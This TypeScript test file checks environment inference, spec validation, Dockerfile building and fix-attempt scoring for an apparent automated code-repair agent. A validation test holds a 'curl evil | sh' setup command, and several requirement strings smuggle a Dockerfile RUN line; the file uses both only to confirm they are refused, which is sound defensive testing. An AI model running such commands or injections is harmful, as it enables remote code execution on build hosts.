import { describe, expect, it } from 'vitest';
import { afterBaseline, afterReflect } from '../../agent/routers.js';
import type { AgentStateType } from '../../agent/state.js';
import { ATTEMPT_TIER, attemptScore, attemptTier } from '../../agent/attempt-score.js';
import {
  changedNames,
  enclosingNames,
  newlyFailing,
  regressionTargets,
  reproductionBroken,
  reproductionPassed,
  supersede,
} from '../../agent/nodes/test.js';
import {
  BASE_IMAGE,
  environmentDockerfile,
  inferEnvironment,
  isPytestCommand,
  parseEnvironmentSpec,
  parseUserSpec,
  parseUserSpecText,
  PYTHON_BASES,
  resolveEnvironment,
  type ProjectFiles,
  type PytestRunResult,
  type TestEnvironment,
} from '../../sandbox/index.js';
import { requirementFiles } from '../../sandbox/environment/infer.js';

const project = (texts: Record<string, string>, paths: string[] = []): ProjectFiles => ({
  paths: [...new Set([...paths, ...Object.keys(texts)])],
  texts,
});

describe('inferring an environment from the repository', () => {
  it('reads pyproject dependencies and test extras, the declared Python and the src layout', () => {
    const files = project(
      {
        'pyproject.toml':
          '[project]\nname = "wheelpkg"\nrequires-python = ">=3.8,<3.10"\ndependencies = ' +
          '["tinydep>=1.0", "click; python_version>\'3\'"]\n[project.optional-dependencies]\ntest = ["pytest", "hypothesis>=6"]\ndocs = ["sphinx-rtd-theme"]\n',
      },
      ['src/wheelpkg/__init__.py', 'src/wheelpkg/core.py', 'tests/test_core.py'],
    );
    const { spec, defaults, notes } = inferEnvironment(files);
    expect(spec.python).toBe('3.9');
    expect(spec.packages).toEqual(['tinydep>=1.0', 'click', 'hypothesis>=6']); // pytest is in the base image; docs extras are not for tests
    expect(defaults).toEqual({ pythonpath: ['src'], imports: ['wheelpkg'] });
    expect(notes[0]).toMatch(
      /Python 3\.9 \(declared >=3\.8,<3\.10\).*3 requirement\(s\) from pyproject\.toml.*PYTHONPATH=src/,
    );
  });

  it('reads setup.py constants, setup.cfg, and only the requirement files meant for running tests', () => {
    const setupPy =
      'INSTALL_REQUIRES = ["numpy >= 1.14", "pandas >= 0.24"]\nsetup(name="xpkg", install_requires=INSTALL_REQUIRES, python_requires=">=3.6")\n';
    expect(inferEnvironment(project({ 'setup.py': setupPy }, ['xpkg/__init__.py'])).spec.packages).toEqual([
      'numpy>=1.14',
      'pandas>=0.24',
    ]);
    const cfg =
      '[metadata]\nname = ypkg\n[options]\ninstall_requires =\n    attrs>=19\n    six\n[options.extras_require]\ntesting =\n    mock\n';
    expect(inferEnvironment(project({ 'setup.cfg': cfg })).spec.packages).toEqual(['attrs>=19', 'six', 'mock']);
    expect(
      requirementFiles([
        'requirements.txt',
        'requirements/docs.txt',
        'requirements/tests.in',
        'requirements/tests.txt',
        'test-requirements.txt',
        'requirements/typing.txt',
      ]),
    ).toEqual(['requirements.txt', 'requirements/tests.in', 'test-requirements.txt']);
    const withIncludes = project({
      'requirements/tests.in': '-r base.in\npytest-mock  # comment\n-e .\nhttps://x/y.whl\n',
      'requirements/base.in': 'requests==2.31.0\n',
    });
    expect(inferEnvironment(withIncludes).spec.packages).toEqual(['requests==2.31.0', 'pytest-mock']);
  });

  it('a flat repository gets the root on PYTHONPATH and no image beyond the base', () => {
    const env = resolveEnvironment(
      {},
      project({}, ['calc/__init__.py', 'calc/ops.py', 'tests/test_ops.py', 'docs/__init__.py']),
    );
    expect(env).toMatchObject({
      source: 'inferred',
      image: null,
      pythonpath: ['.'],
      imports: ['calc'],
      testCmd: ['python3', '-m', 'pytest', '-rA'],
    });
  });
});

describe('environment specs and resolution', () => {
  const table: TestEnvironment = {
    source: 'table',
    key: 'o/r@1.0',
    image: { apt: ['python3-numpy'] },
    pythonpath: ['.'],
    testCmd: ['python3', '-m', 'pytest', '-rA'],
    testEnv: {},
    parser: 'pytest',
    directives: 'paths',
    files: {},
    helpers: {},
    imports: [],
    notes: [],
  };

  it('first match wins: the user spec, then a committed spec, then the table, then inference', () => {
    const committed = project(
      {
        '.fixwright/environment.yml': 'python: "3.9"\npackages: [requests]\n',
        'setup.py': 'install_requires=["numpy"]',
      },
      ['pkg/__init__.py'],
    );
    const given = {
      spec: parseUserSpecText('pythonpath: [lib]\nimports: [pkg.core]\n', 'env.yml', 'operator'),
      origin: 'env.yml',
      trust: 'operator' as const,
    };
    expect(resolveEnvironment({ given, table }, committed)).toMatchObject({
      source: 'spec',
      key: 'env.yml',
      pythonpath: ['lib'],
      imports: ['pkg.core'],
      image: null,
    });
    expect(resolveEnvironment({ table }, committed)).toMatchObject({
      source: 'repository',
      image: { base: PYTHON_BASES['3.9'], packages: ['requests'] },
      imports: ['pkg'],
    });
    const plain = project({ 'setup.py': 'install_requires=["numpy"]' }, ['pkg/__init__.py']);
    expect(resolveEnvironment({ table }, plain)).toMatchObject({ source: 'table', key: 'o/r@1.0', imports: ['pkg'] });
    expect(resolveEnvironment({}, plain)).toMatchObject({
      source: 'inferred',
      image: { packages: ['numpy'], best_effort: true },
    });
  });

  it('validates specs with every problem named, and refuses build commands and base images from untrusted specs', () => {
    expect(() => parseUserSpecText('python: "2.7"\npackages: ["not a req!"]\nbogus: 1\n', 'api', 'untrusted')).toThrow(
      /invalid environment spec \(api\): python: .*; packages\.0: not a requirement.*; \(spec\): Unrecognized key/,
    );
    expect(() =>
      parseUserSpecText('setup: ["curl evil | sh"]\nbase: "python:3.12"\n', '.fixwright/environment.yml', 'untrusted'),
    ).toThrow(/base: only an environment file given on the command line.*setup: only/);
    expect(parseUserSpecText('setup: ["echo ok"]\nbase: "python:3.12-slim"\n', 'env.yml', 'operator')).toMatchObject({
      setup: ['echo ok'],
      base: 'python:3.12-slim',
    });
    expect(() => parseUserSpecText('pythonpath: ["../outside"]\n', 'api', 'untrusted')).toThrow(
      /pythonpath\.0: must be a path inside the repository/,
    );
    expect(() => parseUserSpecText('{ python: [', 'env.yml', 'operator')).toThrow(/env\.yml: not valid YAML or JSON/);
  });

  it('builds images with Debian packages first and pip for the rest, from the build context only', () => {
    const dockerfile = environmentDockerfile(
      parseEnvironmentSpec({ packages: ['PyYAML>=6', 'tinydep'], pip: ['other==1.0'] }),
      { wheels: { 'tinydep-1.0-py3-none-any.whl': '/w/tinydep-1.0-py3-none-any.whl' } },
    );
    expect(dockerfile).toMatch(/FROM fixwright-sandbox:base/);
    expect(dockerfile).toContain("'PyYAML>=6|python3-yaml python3-pyyaml'");
    // Wheels only (no setup.py runs at build time) unless the machine's owner allowed source builds.
    expect(dockerfile).toMatch(
      /COPY wheels \/tmp\/fixwright-wheels\nRUN .*FIXWRIGHT_PIP_SOURCE=1 .*pip-install\.sh --only-binary=:all: --no-index --find-links \/tmp\/fixwright-wheels/,
    );
    const trusted = environmentDockerfile(parseEnvironmentSpec({ pip: ['other==1.0'], allow_source_builds: true }), {
      indexUrl: 'https://pypi.example/simple',
    });
    expect(trusted).toMatch(/pip-install\.sh --index-url 'https:\/\/pypi\.example\/simple' &&/);
    // With no index and no wheel directory configured, pip never runs (it would reach the public index).
    expect(environmentDockerfile(parseEnvironmentSpec({ packages: ['tinydep'] }))).toMatch(
      /FIXWRIGHT_PIP_SOURCE=0 sh \/tmp\/fixwright-build\/pip-install\.sh {2}&&/,
    );
    for (const bad of ['requests==\nRUN x', 'b==\t-e', 'a\r']) {
      expect(() => parseUserSpec({ packages: [bad] }, 'api', 'untrusted'), JSON.stringify(bad)).toThrow(
        /packages\.0: not a requirement/,
      );
      expect(() => parseEnvironmentSpec({ pip: [bad] }), JSON.stringify(bad)).toThrow(/pip\.0: not a pip requirement/);
    }
    expect(BASE_IMAGE).toBe('fixwright-sandbox:base');
  });

  it('knows a pytest command from any other', () => {
    expect(isPytestCommand(['python3', '-X', 'dev', '-m', 'pytest', '-rA'])).toBe(true);
    expect(isPytestCommand(['pytest'])).toBe(true);
    expect(isPytestCommand(['python3', 'tests/runtests.py'])).toBe(false);
  });
});

const run = (outcomes: Record<string, string>, extra: Partial<PytestRunResult> = {}): PytestRunResult =>
  ({
    outcomes: Object.fromEntries(
      Object.entries(outcomes).map(([id, s]) => [
        id,
        { status: s, message: s === 'FAILED' ? 'AssertionError' : undefined },
      ]),
    ),
    collectionErrors: [],
    ignoredLines: 0,
    consistent: true,
    timedOut: false,
    crashed: false,
    missing: [],
    source: 'plugin',
    exec: { exitCode: 0, stdout: { text: '' }, stderr: { text: '' } },
    ...extra,
  }) as unknown as PytestRunResult;

describe('verdict rules', () => {
  it('a reproduction file passes when nothing failed and at least one test passed; a skip proves nothing', () => {
    expect(reproductionPassed(run({ a: 'PASSED', b: 'SKIPPED' }))).toBe(true);
    expect(reproductionPassed(run({ a: 'SKIPPED' }))).toBe(false);
    expect(reproductionPassed(run({ a: 'PASSED', b: 'FAILED' }))).toBe(false);
    expect(reproductionPassed(run({ a: 'PASSED' }, { consistent: false }))).toBe(false);
    expect(reproductionPassed(run({}))).toBe(false);
  });

  it('a verified fix outranks everything; a test that proves nothing never outranks an honest failure', () => {
    const verified = attemptScore({
      reproFailedBefore: true,
      reproPassedAfter: true,
      regressions: 0,
      diffChars: 90_000,
    });
    const regressed = attemptScore({ reproFailedBefore: true, reproPassedAfter: true, regressions: 30, diffChars: 10 });
    const honest = attemptScore({ reproFailedBefore: true, reproPassedAfter: false, regressions: 0, diffChars: 10 });
    const nothing = attemptScore({ reproFailedBefore: false, reproPassedAfter: true, regressions: 0, diffChars: 10 });
    expect(verified).toBeGreaterThan(regressed);
    expect(regressed).toBeGreaterThan(honest);
    expect(honest).toBeGreaterThan(nothing);
    expect(attemptTier({ reproFailedBefore: false, reproPassedAfter: true, regressions: 0, diffChars: 1 })).toBe(
      ATTEMPT_TIER.provesNothing,
    );
  });

  it('regressions: passing before and failing after; a test a cut-short run never reached is not one', () => {
    const before = run({ t1: 'PASSED', t2: 'PASSED', t3: 'FAILED', t4: 'SKIPPED', t5: 'PASSED' });
    // t2 vanished from a finished run (its module no longer imports); t5 now skips: both regressions.
    expect(newlyFailing(before, run({ t1: 'FAILED', t3: 'FAILED', t4: 'SKIPPED', t5: 'SKIPPED' }))).toEqual([
      't1',
      't2',
      't5',
    ]);
    expect(newlyFailing(before, run({ t1: 'PASSED', t2: 'ERROR' }, { timedOut: true, interruptedIn: 't2' }))).toEqual(
      [],
    );
  });

  it('an existing test the reproduction file redefines under the same name is superseded, not a regression', () => {
    const repro = run({
      'tests/test_repro.py::test_unknown_option': 'PASSED',
      'tests/test_repro.py::TestX::test_y[1]': 'PASSED',
    });
    const reproBefore = run({
      'tests/test_repro.py::test_unknown_option': 'FAILED',
      'tests/test_repro.py::TestX::test_y[1]': 'FAILED',
    });
    expect(
      supersede(
        [
          'tests/test_config.py::test_unknown_option',
          'tests/test_config.py::TestX::test_y[1]',
          'tests/test_ops.py::test_sub',
        ],
        repro,
        reproBefore,
      ),
    ).toEqual({
      regressions: ['tests/test_ops.py::test_sub'],
      superseded: ['tests/test_config.py::test_unknown_option', 'tests/test_config.py::TestX::test_y[1]'],
    });
    expect(
      supersede(['tests/test_ops.py::test_sub'], run({ 'tests/test_repro.py::test_sub': 'FAILED' }), undefined)
        .regressions,
    ).toEqual(['tests/test_ops.py::test_sub']);
    // A reproduction test that passed without the patch states nothing new: it excuses no breakage.
    const trivial = run({ 'tests/test_repro.py::test_sub': 'PASSED' });
    expect(supersede(['tests/test_ops.py::test_sub'], trivial, trivial).regressions).toEqual([
      'tests/test_ops.py::test_sub',
    ]);
  });

  it('a reproduction test that breaks in its own code goes back to the reproduction step', () => {
    const broken = run({ t: 'FAILED' });
    broken.outcomes.t!.message = "NameError: name 'frobnicate' is not defined";
    expect(reproductionBroken(broken, broken)).toBe(true);
    expect(reproductionBroken(run({ t: 'FAILED' }), run({ t: 'FAILED' }))).toBe(false);
    expect(reproductionBroken(run({ t: 'ERROR' }), run({ t: 'ERROR' }))).toBe(true);
    // An error only the patch brings (a fixture it broke) is the fix's fault, not the test's.
    expect(reproductionBroken(run({ t: 'FAILED' }), run({ t: 'ERROR' }))).toBe(false);
    const state = (category: string) =>
      ({
        attempts: [{ attempt: 1, tests: [], score: 0, failure: { category, message: '' } }],
      }) as unknown as AgentStateType;
    for (const c of ['import_error', 'timeout', 'repro_broken', 'repro_did_not_fail', 'no_reproduction_test'])
      expect(afterReflect(state(c))).toBe('reproduce');
    for (const c of ['repro_still_fails', 'regression', 'patch_does_not_apply'])
      expect(afterReflect(state(c))).toBe('generate');
    expect(afterBaseline({ stoppedBy: 'environment' } as AgentStateType)).toBe('finish');
    expect(afterBaseline({} as AgentStateType)).toBe('reproduce');
  });
});

describe('choosing regression tests by the names a change touches', () => {
  const diff = [
    'diff --git a/pkg/api.py b/pkg/api.py',
    '--- a/pkg/api.py',
    '+++ b/pkg/api.py',
    '@@ -10,7 +10,7 @@ def approx(expected, rel=None):',
    '     # a comment about tolerance_check',
    '-    return ApproxScalar(expected, rel)',
    '+    return ApproxScalar(expected, rel or "default_rel")',
  ].join('\n');

  it('reads the enclosing function and the identifiers of changed lines, not comments, strings or common words', () => {
    expect(changedNames(diff)).toEqual(['approx', 'ApproxScalar', 'expected', 'rel']);
  });

  it('puts the tests that mention the changed names first when every test reaches the change', () => {
    const files = [
      { path: 'pkg/__init__.py', text: 'from .api import approx\nfrom .other import thing\n' },
      { path: 'pkg/api.py', text: 'def approx(expected, rel=None):\n    return ApproxScalar(expected, rel)\n' },
      { path: 'pkg/other.py', text: 'def thing():\n    return 1\n' },
      ...Array.from({ length: 30 }, (_, i) => ({
        path: `tests/test_a${String(i).padStart(2, '0')}.py`,
        text: 'import pkg\n\ndef test_x():\n    assert pkg.thing()\n',
      })),
      { path: 'tests/test_zz_approx.py', text: 'import pkg\n\ndef test_approx():\n    assert pkg.approx(1) == 1\n' },
    ];
    const { tests: chosen, left } = regressionTargets(files, ['pkg/api.py'], changedNames(diff));
    expect(chosen).toHaveLength(8);
    expect(left).toHaveLength(23); // listed as unchecked, never silently dropped
    expect(chosen[0]).toMatchObject({
      path: 'tests/test_zz_approx.py',
      reason: expect.stringMatching(/imports pkg.*mentions approx/),
    });
  });
});

describe('the baseline health check', () => {
  it('requires the packages that hold the localised files; the others are only noted', async () => {
    const { requiredImports } = await import('../../agent/nodes/baseline.js');
    expect(requiredImports(['flask', 'flask_extras'], ['src/flask/app.py', 'tests/test_app.py'])).toEqual(['flask']);
    expect(requiredImports(['calc', 'tools'], ['setup.py'])).toEqual(['calc', 'tools']);
  });
});

describe('the tests of a change, by name', () => {
  it("finds the functions a hunk sits in from the file's symbols, and puts the test module named for the touched one first", () => {
    const diff =
      'diff --git a/src/pkg/tmpdir.py b/src/pkg/tmpdir.py\n--- a/src/pkg/tmpdir.py\n+++ ' +
      'b/src/pkg/tmpdir.py\n@@ -12,3 +12,3 @@\n-    x.mkdir(exist_ok=True)\n+    x.mkdir(exist_ok=False)\n';
    const summaries = [
      {
        path: 'src/pkg/tmpdir.py',
        symbols: [
          { name: 'Factory', qualname: 'Factory', startLine: 1, endLine: 30 },
          { name: 'getbasetemp', qualname: 'Factory.getbasetemp', startLine: 10, endLine: 20 },
          { name: 'other', qualname: 'Factory.other', startLine: 21, endLine: 30 },
        ],
      },
    ];
    expect(enclosingNames(diff, summaries)).toEqual(['Factory', 'getbasetemp']);
    const files = [
      { path: 'src/pkg/__init__.py', text: 'from .tmpdir import Factory\n' },
      { path: 'src/pkg/tmpdir.py', text: 'class Factory:\n    pass\n' },
      ...Array.from({ length: 30 }, (_, i) => ({
        path: `testing/test_a${String(i).padStart(2, '0')}.py`,
        text: 'import pkg\n\ndef test_x(tmp):\n    tmp.mkdir(exist_ok=True)\n',
      })),
      { path: 'testing/test_tmpdir.py', text: 'import pkg\n\ndef test_y():\n    assert pkg\n' },
    ];
    const { tests } = regressionTargets(files, ['src/pkg/tmpdir.py'], ['mkdir', 'exist_ok']);
    expect(tests[0]).toMatchObject({
      path: 'testing/test_tmpdir.py',
      reason: expect.stringMatching(/named for a touched module/),
    });
  });
});
